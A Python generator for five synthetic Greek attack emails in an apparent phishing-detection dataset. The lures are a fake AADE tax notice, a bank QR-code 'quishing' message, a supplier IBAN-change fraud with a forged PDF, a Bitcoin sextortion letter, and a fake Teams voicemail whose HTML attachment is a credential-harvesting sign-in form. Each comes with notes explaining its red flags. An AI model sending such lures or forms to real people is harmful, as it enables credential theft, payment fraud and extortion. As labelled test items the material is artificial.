"""Greek attack messages (32-36)."""
import banking as B
import cryptoaddr
import infra as I
import mime as M
import pdf
import qr
import util as U
from msg import Msg, alt, hdrs_outlook_smtp, hdrs_phpmailer, hdrs_roundcube, outlook_classic_boundary, outlook_smtp_msgid

AFM = B.gr_afm("80147263")


def a32():
    m = Msg("attack", 32, "el", "aade-mydata-penalty-phish-compromised-site")
    r = m.rng
    m.t = I.at(2026, 11, 19, 10, 44, 20, "GR")
    server = "cp%d.grserver.gr" % r.randint(10, 60)
    m.env = env = I.exim_cpanel(r, m.t, server, "185.138.%d.%d" % (r.randint(40, 43), r.randint(2, 250)), "ktima-elaionas-kalamata.gr",
                                php=True, zone="GR", cwd="ktima-elaionas-kalamata.gr:/public_html/wp-admin/css/colors")
    m.rcpt = "eleni.konstantinou@examplegroup.eu"
    m.mailfrom = "ktimaela@%s" % server
    link = "https://myaade-gov.info/taxisnet/login.php?afm=%s&ref=%s" % (AFM, I.rhex(r, 10))
    paras = [
        "ΑΝΕΞΑΡΤΗΤΗ ΑΡΧΗ ΔΗΜΟΣΙΩΝ ΕΣΟΔΩΝ",
        "Ηλεκτρονική ειδοποίηση myAADE",
        "",
        "Επωνυμία: EXAMPLE GROUP HELLAS ΜΟΝΟΠΡΟΣΩΠΗ Α.Ε.",
        "ΑΦΜ: %s" % AFM,
        "",
        "Αγαπητέ φορολογούμενε,",
        "",
        "από τη διασταύρωση των δεδομένων της πλατφόρμας myDATA με τα στοιχεία των αντισυμβαλλομένων σας εντοπίστηκαν αποκλίσεις σε 14 παραστατικά πωλήσεων του Σεπτεμβρίου 2026 (μη διαβιβασμένοι χαρακτηρισμοί εσόδων).",
        "",
        "Για κάθε μη διαβιβασμένο παραστατικό προβλέπεται πρόστιμο σύμφωνα με τις διατάξεις του Κώδικα Φορολογικής Διαδικασίας. Μπορείτε να υποβάλετε διορθωτικές διαβιβάσεις χωρίς κυρώσεις έως τις 25/11/2026.",
        "",
        "Είσοδος με κωδικούς TAXISnet: %s" % link,
        "",
        "Το μήνυμα αυτό στάλθηκε αυτόματα. Παρακαλούμε μην απαντάτε.",
    ]
    text = M.paras_to_text(paras)
    html = M.simple_html("<div style=\"max-width:640px;margin:0 auto;background:#fff;font-family:Arial,sans-serif;font-size:14px;color:#1a1a1a\">"
                         "<div style=\"background:#003476;color:#fff;padding:16px 22px;font-size:18px;font-weight:bold\">ΑΑΔΕ &middot; myAADE</div><div style=\"padding:20px\">"
                         + "".join("<p>%s</p>" % M.esc(p) for p in paras[3:] if p and not p.startswith("Είσοδος"))
                         + "<p><a href=\"%s\" style=\"background:#003476;color:#fff;padding:11px 24px;text-decoration:none\">Είσοδος στην εφαρμογή</a></p></div></div>" % link,
                         "UTF-8", "myAADE")
    m.headers = hdrs_phpmailer(m.t, "eleni.konstantinou@examplegroup.eu", M.addr("ΑΑΔΕ - myAADE", "noreply@aade-myaade.gr", "UTF-8", "B"),
                               M.hdr_text("Ειδοποίηση: αποκλίσεις διαβιβάσεων myDATA - ΑΦΜ %s" % AFM, "UTF-8", "B"),
                               "<%s@ktima-elaionas-kalamata.gr>" % I.rstr(r, 43), zone="GR")
    m.body = alt(text, html, "utf-8", "base64", "base64", env.boundary(0), label="UTF-8")
    m.what = "AADE/myDATA penalty notice phishing for TAXISnet credentials"
    m.why = ("From aade-myaade.gr (not aade.gr/gov.gr), sent by a PHP script on a compromised Greek olive-farm website (X-Source-Dir in wp-admin), "
             "link to myaade-gov.info; penalty threat with deadline; compare the external accountant's genuine myDATA mail business/34")
    return m


def a33():
    m = Msg("attack", 33, "el", "bank-kyc-quishing-mailgun")
    r = m.rng
    m.t = I.at(2026, 10, 15, 12, 3, 30, "GR")
    dom = "nbg-enimerosi.gr"
    m.env = env = I.mailgun(r, m.t, dom)
    m.rcpt = "eleni.konstantinou@examplegroup.eu"
    m.mailfrom = "bounce+%s.%s-eleni.konstantinou=examplegroup.eu@mg.%s" % (I.rhex(r, 6), I.rhex(r, 6), dom)
    url = "https://nbg-kyc-epikairopoiisi.com/m/?c=%s&e=eleni.konstantinou%%40examplegroup.eu" % I.rhex(r, 10)
    png = qr.qr_png(url, "M", scale=5)
    cid = "qr%s@nbg" % I.rhex(r, 8)
    paras = [
        "Αγαπητή πελάτισσα, αγαπητέ πελάτη,",
        "",
        "σύμφωνα με την υποχρέωση της Τράπεζας για περιοδική επικαιροποίηση των στοιχείων πελατών (Know Your Customer - ν. 4557/2018), παρακαλούμε να επιβεβαιώσετε τα στοιχεία του εταιρικού σας λογαριασμού έως τις 22/10/2026.",
        "",
        "Η διαδικασία ολοκληρώνεται μόνο μέσω κινητού: σαρώστε τον κωδικό QR με την κάμερα του τηλεφώνου σας και συνδεθείτε με τους κωδικούς e-banking.",
        "",
        "Σε περίπτωση μη επικαιροποίησης, οι συναλλαγές του λογαριασμού θα περιοριστούν προσωρινά.",
        "",
        "Με εκτίμηση,",
        "Εθνική Τράπεζα - Business Banking",
    ]
    text = M.paras_to_text(paras)
    html = M.simple_html("<div style=\"max-width:600px;margin:0 auto;background:#fff;font-family:Arial,sans-serif;font-size:14px;color:#222\">"
                         "<div style=\"background:#00615f;color:#fff;padding:16px 22px;font-size:18px\">Εθνική Τράπεζα</div><div style=\"padding:22px\">"
                         + "".join("<p>%s</p>" % M.esc(p) for p in paras if p)
                         + "<p style=\"text-align:center\"><img src=\"cid:%s\" width=\"185\" height=\"185\" alt=\"QR\"></p></div></div>" % cid,
                         "UTF-8", "ΕΤΕ")
    m.headers = [("From", M.addr("Εθνική Τράπεζα", "enimerosi@%s" % dom, "UTF-8", "B")), ("To", "eleni.konstantinou@examplegroup.eu"),
                 ("Subject", M.hdr_text("Υποχρεωτική επικαιροποίηση στοιχείων εταιρικού λογαριασμού", "UTF-8", "B")),
                 ("Date", I.rfc2822(m.t, "UTC")), ("Message-Id", env.msgid), ("Mime-Version", "1.0")]
    b = env.boundary
    m.body = M.multipart("related", [
        alt(text, html, "utf-8", "quoted-printable", "quoted-printable", b(1), label="utf-8", ct_style="plain"),
        M.attachment(png, "image/png", "kyc.png", inline=True, cid=cid, describe="inline PNG QR code -> phishing URL"),
    ], b(0), extra_ct='; type="multipart/alternative"')
    m.qr_url = url
    m.what = "Bank KYC update quishing: QR code (encodes %s) to log into 'e-banking' on the phone" % url
    m.why = ("Look-alike bank domain sent via Mailgun, QR code hides the phishing URL from link scanners and pushes the victim to an unmanaged phone, "
             "threat of account restriction; banks do not request e-banking logins via QR in e-mail")
    return m


def a34():
    m = Msg("attack", 34, "el", "isp-bank-change-lookalike-outlook")
    r = m.rng
    m.t = I.at(2026, 12, 4, 9, 58, 2, "GR")
    dom = "hellenicfibre.gr"
    m.env = env = I.postfix_server(r, m.t, "mail.%s" % dom, "57.128.%d.%d" % (r.randint(0, 255), r.randint(2, 250)),
                                   client_ip="%d.%d.%d.%d" % (r.choice([102, 154, 197]), r.randint(0, 255), r.randint(0, 255), r.randint(2, 250)),
                                   client_helo="[192.168.8.101]", zone="UTC", rdns="vps-%s.vps.ovh.net" % I.rhex(r, 8))
    m.rcpt = "eleni.konstantinou@examplegroup.eu"
    m.mailfrom = "n.alexiou@%s" % dom
    cs = "windows-1253"
    new_iban = B.gr_iban("026", "0118", "0000941200657314")
    paras = [
        "Καλημέρα σας κα Κωνσταντίνου,",
        "",
        "σας ενημερώνουμε ότι, στο πλαίσιο του ετήσιου εσωτερικού ελέγχου, η εταιρεία μας μεταφέρει τις εισπράξεις της σε νέο τραπεζικό λογαριασμό. Από σήμερα παρακαλούμε οι πληρωμές των τιμολογίων μας να γίνονται αποκλειστικά στον παρακάτω λογαριασμό:",
        "",
        "Δικαιούχος: HELLENIC FIBER NETWORKS A.E.",
        "Τράπεζα: Eurobank",
        "IBAN: %s" % B.fmt_iban(new_iban),
        "",
        "Ο λογαριασμός μας στην Τράπεζα Πειραιώς θα κλείσει εντός της εβδομάδας. Παρακαλούμε η εξόφληση του τιμολογίου ΤΠΥ Α-2026/0934 (6.820,00 €) να γίνει ήδη στον νέο λογαριασμό και να μας στείλετε το αποδεικτικό.",
        "",
        "Επισυνάπτεται η σχετική επιστολή. Για οποιαδήποτε διευκρίνιση απαντήστε σε αυτό το μήνυμα.",
        "",
        "Με εκτίμηση,",
        "",
        "Νίκος Αλεξίου",
        "Account Manager",
        "Hellenic Fiber Networks A.E.",
    ]
    text = M.paras_to_text(paras)
    html = M.outlook_html(paras, cs, "EL")
    letter = pdf.make_pdf([
        ("HELLENIC FIBER NETWORKS A.E.", 15, True), "Λεωφ. Μεσογείων 402, 153 42 Αγία Παρασκευή - ΑΦΜ %s" % B.gr_afm("09982714"), "", "",
        "Προς: EXAMPLE GROUP HELLAS Μ.Α.Ε.", "Λογιστήριο", "", "Αθήνα, 3/12/2026", "",
        ("Θέμα: Αλλαγή τραπεζικού λογαριασμού είσπραξης", 11, True), "",
        "Σας γνωρίζουμε ότι από 4/12/2026 οι πληρωμές προς την εταιρεία μας γίνονται στον λογαριασμό:", "",
        "Eurobank - IBAN %s" % B.fmt_iban(new_iban), "", "Ο προηγούμενος λογαριασμός παύει να ισχύει.", "",
        "Με τιμή,", "Για την HELLENIC FIBER NETWORKS A.E.", "Ο Οικονομικός Διευθυντής",
    ], title="Αλλαγή λογαριασμού", author="n.alexiou", creator="Microsoft Word", producer="Microsoft: Print To PDF", date="D:20261203170510+02'00'")
    msgid = outlook_smtp_msgid(r, m.t, dom)
    h, post = hdrs_outlook_smtp(m.t, M.addr("Νίκος Αλεξίου", "n.alexiou@%s" % dom, cs, "B"),
                                M.addr("Ελένη Κωνσταντίνου", "eleni.konstantinou@examplegroup.eu", cs, "B"),
                                M.hdr_text("Αλλαγή τραπεζικού λογαριασμού - Hellenic Fiber Networks", cs, "B"), msgid, zone="GR", lang="el", rng=r)
    m.headers = h
    m.post_headers = post
    bnd = outlook_classic_boundary(r, m.t)
    m.body = M.multipart("mixed", [
        alt(text, html, cs, "quoted-printable", "quoted-printable", bnd(1)),
        M.attachment(letter, "application/pdf", "Επιστολή_αλλαγής_IBAN.pdf", fname_style="rfc2047b", charset=cs, describe="PDF letter with new IBAN"),
    ], bnd(0))
    m.what = "ISP/fibre supplier bank-detail change from look-alike hellenicfibre.gr (British spelling) asking to pay an open invoice to a new Eurobank IBAN"
    m.why = ("Real supplier is hellenicfiber.gr on Microsoft 365; this comes from an OVH VPS with a forged Outlook X-Mailer, submitted from an African IP; "
             "redirects a specific invoice and asks for proof of payment, contact only by reply; compare the genuine invoice business/32")
    return m


def a35():
    m = Msg("attack", 35, "el", "sextortion-spoofed-self-bitcoin")
    r = m.rng
    m.t = I.at(2026, 10, 30, 2, 17, 45, "UTC")
    ip = "177.%d.%d.%d" % (r.randint(36, 39), r.randint(0, 255), r.randint(2, 250))
    m.env = env = I.helper_env("[%s]" % ip, None, ip, None, received=[])
    m.rcpt = "giorgos.papadopoulos@example.com"
    m.mailfrom = "giorgos.papadopoulos@example.com"
    btc = cryptoaddr.p2pkh("a35-" + m.key)
    assert cryptoaddr.b58check_verify(btc)
    m.btc = btc
    cs = "iso-8859-7"
    text = M.paras_to_text([
        "Γεια σου,",
        "",
        "δυστυχώς έχω άσχημα νέα για σένα. Πριν από μερικούς μήνες απέκτησα πρόσβαση στις συσκευές που χρησιμοποιείς για να περιηγείσαι στο διαδίκτυο. Όπως βλέπεις, σου στέλνω αυτό το μήνυμα από τον δικό σου λογαριασμό.",
        "",
        "Από τότε παρακολουθώ ό,τι κάνεις. Έχω εγγραφές από την κάμερά σου από επισκέψεις σε ιστοσελίδες για ενήλικες, καθώς και όλες τις επαφές σου από το email, τα μέσα κοινωνικής δικτύωσης και τα μηνύματα.",
        "",
        "Αν θέλεις να διαγράψω τα πάντα, στείλε 1.450 € σε Bitcoin στη διεύθυνση:",
        "",
        btc,
        "",
        "Έχεις 48 ώρες από τη στιγμή που άνοιξες αυτό το μήνυμα. Ξέρω πότε το διάβασες. Αν δεν πληρώσεις, το βίντεο θα σταλεί σε όλους τους συναδέλφους, τους φίλους και την οικογένειά σου. Μην απαντήσεις, μην πας στην αστυνομία - θα το μάθω αμέσως.",
    ])
    m.headers = [("From", "giorgos.papadopoulos@example.com"), ("To", "giorgos.papadopoulos@example.com"),
                 ("Subject", M.hdr_text("Ο λογαριασμός σας έχει παραβιαστεί - πληρωμή εντός 48 ωρών", cs, "B")),
                 ("Date", I.rfc2822(m.t, "BR")), ("Message-ID", "<%s@example.com>" % I.rhex(r, 24)),
                 ("X-Priority", "1"), ("MIME-Version", "1.0")]
    m.body = M.text_part(text, "plain", cs, "base64", label="iso-8859-7")
    m.what = "Sextortion in Greek with the recipient's own address spoofed as sender; demands 1,450 EUR to Bitcoin base58 address %s" % btc
    m.why = ("Forged From = recipient (sent directly to MX from a Brazilian host without rDNS/TLS and with a non-company HELO), false hacking claim, "
             "blackmail with deadline and Bitcoin address")
    return m


def a36():
    m = Msg("attack", 36, "el", "teams-voicemail-html-credential-form")
    r = m.rng
    m.t = I.at(2026, 11, 27, 16, 12, 5, "GR")
    server = "srv%d.cyprushost.net" % r.randint(1, 40)
    m.env = env = I.exim_cpanel(r, m.t, server, "194.30.%d.%d" % (r.randint(128, 255), r.randint(2, 250)), "aegeanview-hotel.com.cy",
                                auth_user="reservations@aegeanview-hotel.com.cy", client_ip="23.%d.%d.%d" % (r.randint(94, 95), r.randint(0, 255), r.randint(2, 250)),
                                client_helo="WIN-Q7P3MNH2K8F", zone="GR")
    m.rcpt = "giorgos.papadopoulos@example.com"
    m.mailfrom = "reservations@aegeanview-hotel.com.cy"
    num = "+30 210 689 1457"
    action = "https://teams-voicemail-gr.com/auth/oauth2/v2.0/?cid=%s" % I.rhex(r, 12)
    page = """<!DOCTYPE html>
<html lang="el"><head><meta charset="utf-8"><title>Φωνητικό μήνυμα - Microsoft Teams</title>
<style>body{font-family:'Segoe UI',Arial,sans-serif;background:#f2f2f2;margin:0}.c{width:440px;margin:70px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%%;border:0;border-bottom:1px solid #666;padding:6px 0;margin:10px 0 18px;font-size:15px}button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right}</style></head>
<body><div class="c"><div style="font-size:20px;color:#5e5e5e">&#9632;&#9632; Microsoft</div>
<h2 style="font-weight:600">Ακρόαση φωνητικού μηνύματος</h2>
<p>Κλήση από <b>%s</b> &middot; Διάρκεια 00:47</p>
<p style="font-size:13px">Για λόγους ασφαλείας, συνδεθείτε με τον εταιρικό σας λογαριασμό για να ακούσετε το μήνυμα.</p>
<form method="post" action="%s">
<input type="email" name="loginfmt" value="giorgos.papadopoulos@example.com">
<input type="password" name="passwd" placeholder="Κωδικός πρόσβασης">
<button type="submit">Είσοδος</button></form><div style="clear:both"></div></div></body></html>
""" % (num, action)
    paras = [
        "Λάβατε νέο φωνητικό μήνυμα",
        "",
        "Από: %s" % num,
        "Διάρκεια: 00:47",
        "Ώρα λήψης: 27/11/2026 16:09",
        "",
        "Ανοίξτε το συνημμένο για να ακούσετε το μήνυμα.",
        "",
        "Microsoft Teams - Φωνητικό ταχυδρομείο",
    ]
    text = M.paras_to_text(paras)
    html = M.simple_html("<div style=\"max-width:560px;margin:0 auto;background:#fff;padding:24px;font-family:'Segoe UI',sans-serif;font-size:14px\">"
                         "<div style=\"color:#5b5fc7;font-weight:bold;font-size:17px\">Microsoft Teams</div>"
                         + "".join("<p>%s</p>" % M.esc(p) for p in paras if p) + "</div>", "UTF-8", "Teams")
    m.headers = hdrs_roundcube(m.t, M.addr("Microsoft Teams - Φωνητικό ταχυδρομείο", "reservations@aegeanview-hotel.com.cy", "UTF-8", "B"),
                               "giorgos.papadopoulos@example.com", M.hdr_text("Νέο φωνητικό μήνυμα από %s (00:47)" % num, "UTF-8", "B"),
                               "<%s@aegeanview-hotel.com.cy>" % I.rhex(r, 32), "reservations@aegeanview-hotel.com.cy", zone="GR", ver="1.6.7")
    b = env.boundary
    m.body = M.multipart("mixed", [
        alt(text, html, "utf-8", "quoted-printable", "quoted-printable", b(1), label="UTF-8", ct_style="plain"),
        M.attachment(page.encode("utf-8"), "text/html", "VM_302106891457_0047.htm", describe="HTML Microsoft sign-in imitation posting to teams-voicemail-gr.com (no script)"),
    ], b(0))
    m.what = "Fake Teams voicemail notification with an .htm attachment that is a Microsoft sign-in form (pre-filled address) posting to a phishing host"
    m.why = ("Sent from a compromised Cypriot hotel mailbox on cPanel (login from a foreign IP), display name 'Microsoft Teams', "
             "voicemail delivered as HTML credential form instead of audio, form posts to teams-voicemail-gr.com")
    return m


ALL = [a32, a33, a34, a35, a36]
